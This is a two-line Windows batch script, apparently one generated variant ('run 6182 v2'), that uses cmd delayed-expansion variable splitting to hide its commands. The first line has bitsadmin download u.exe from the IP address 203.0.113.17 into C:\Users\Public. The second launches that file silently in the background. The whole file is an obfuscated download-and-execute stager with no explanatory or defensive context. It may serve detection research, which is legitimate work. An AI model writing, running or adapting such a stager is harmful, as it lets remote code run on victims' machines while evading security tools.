REM run 6182 v2
cmd /v:on /c "set jir0=bitsadmin /transfer j&&set aze1=ob /download /priority high http://203.0.113.17/u.exe C:\Users\Public\u.exe&&!jir0!!aze1!"
cmd /v:on /c "set pji0=start /b C:\Use&&set epn1=rs\&&set ccr2=Pu&&set prk3=blic\u.exe&&!pji0!!epn1!!ccr2!!prk3!"
